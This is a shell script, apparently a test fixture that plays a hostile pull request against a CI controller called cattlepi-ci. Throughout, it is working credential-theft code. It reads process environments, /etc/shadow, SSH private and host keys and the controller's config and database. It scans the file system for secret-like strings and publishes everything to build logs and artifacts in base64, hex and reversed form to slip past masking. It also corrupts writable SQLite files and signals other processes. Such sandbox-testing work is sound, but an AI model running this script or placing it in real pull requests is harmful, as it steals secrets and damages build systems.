#!/bin/sh
# A hostile pull request (the THIEF marker): tries every route it can think of to the controller's
# secrets on the controller's host, and publishes whatever it finds in its log and its artifacts,
# plain and encoded (base64, hex, reversed). Each route prints one "ROUTE name: result" line.
# It never fails the build: a thief wants its loot published.
set +e
loot=artifacts/loot
mkdir -p "$loot"
n=0

route() {
  echo "ROUTE $1: $2"
  echo "$1: $2" >> "$loot/routes.txt"
}

# Publishes a file's content as is and encoded, in the log and as artifacts.
take() {
  f="$1"
  [ -f "$f" ] && [ -r "$f" ] || return 1
  n=$((n + 1))
  echo "LOOT $f"
  head -c 65536 "$f" 2>/dev/null
  echo
  head -c 65536 "$f" 2>/dev/null | base64 -w0; echo
  head -c 65536 "$f" 2>/dev/null | od -An -tx1 | tr -d ' \n'; echo
  head -c 65536 "$f" 2>/dev/null | rev; echo
  cp "$f" "$loot/$n.plain" 2>/dev/null
  base64 -w0 < "$f" > "$loot/$n.b64" 2>/dev/null
  od -An -tx1 < "$f" | tr -d ' \n' > "$loot/$n.hex" 2>/dev/null
  rev < "$f" > "$loot/$n.rev" 2>/dev/null
  return 0
}

# Every readable file under a folder whose content looks like the controller's.
hunt() {
  found=0
  for f in $(find "$@" -xdev -type f -readable -size -2M -not -name thief.sh 2>/dev/null | head -n 5000); do
    if grep -qsE 'aws_sk|gh_token|buildcontrol|PRIVATE KEY|webhook_secret|operator_token|builders_api_key|SQLite format' "$f"; then
      take "$f" >&2 && found=$((found + 1))
    fi
  done
  echo "$found"
}

echo "thief: I am $(id), in $(pwd), on $(hostname)"

# 1. Other processes: their command lines name the config file, their environments hold keys.
pids=$(ls -d /proc/[0-9]* 2>/dev/null | wc -l)
for p in /proc/[0-9]*; do
  take "$p/cmdline" >/dev/null
  take "$p/environ" >/dev/null
done
route "/proc/*/cmdline and environ" "$pids processes visible"
route "ps" "$(ps -eo pid,user,args 2>&1 | wc -l) lines: $(ps -eo args 2>/dev/null | tr '\n' ';' | head -c 300)"

# 2. The controller's config, store and keys by the paths they usually have.
for f in /etc/cattlepi-ci/config.json /etc/cattlepi-ci/buildcontrol.json /var/lib/cattlepi-ci/cattlepi-ci.db \
         /root/.local/share/cattlepi-ci/cattlepi-ci.db /root/.ssh/id_rsa /root/.ssh/id_ed25519 /etc/shadow \
         /etc/ssh/ssh_host_ed25519_key /etc/ssh/ssh_host_rsa_key; do
  if take "$f" >/dev/null; then route "read $f" "READ"; else route "read $f" "refused or absent"; fi
done

# 3. Scanning the file system for anything that looks like the controller's.
for d in /tmp /var /etc /root /home /run /opt /srv /mnt /media /; do
  route "scan $d" "$(hunt "$d") files taken"
done

# 4. The folders above the workspace: the config, the store and other builds' folders live there.
up=..
for i in 1 2 3 4 5 6 7 8; do
  route "list $up" "$(ls -A "$up" 2>&1 | tr '\n' ' ' | head -c 200)"
  for f in "$up"/*.json "$up"/buildcontrol.json "$up"/../buildcontrol.json "$up"/state/*.db "$up"/*.db; do
    take "$f" >/dev/null && route "read $f" "READ"
  done
  route "scan $up" "$(hunt "$up") files taken"
  up="$up/.."
done

# 5. Key files and the agent: the key is usable, is it takeable?
for f in "$HOME"/.ssh/* /build/home/.ssh/*; do take "$f" >/dev/null && route "read $f" "READ"; done
route "agent keys" "$(ssh-add -L 2>&1 | cut -c1-60)"
route "agent socket" "${SSH_AUTH_SOCK:-none}"

# 6. The environment.
route "environment" "$(env | cut -d= -f1 | tr '\n' ' ')"
env > "$loot/env.txt"
env | base64 -w0 > "$loot/env.b64"

# 7. Writing to the store: any SQLite file it can reach.
wrote=0
for f in $(find / -xdev -name '*.db' -writable 2>/dev/null | head -n 50); do
  printf 'THIEF-WAS-HERE' >> "$f" 2>/dev/null && wrote=$((wrote + 1)) && echo "wrote to $f"
done
route "write a store" "$wrote files written"

# 8. Signalling the controller.
route "signal the controller" "pkill java: $(pkill -TERM -x java 2>&1; echo $?) (1: no such process)"
alive=0
i=2
while [ $i -le 4096 ]; do kill -0 $i 2>/dev/null && alive=$((alive + 1)); i=$((i + 1)); done
route "signal probe" "$alive of pids 2..4096 could be signalled"

echo "thief: done, $n files taken"
exit 0
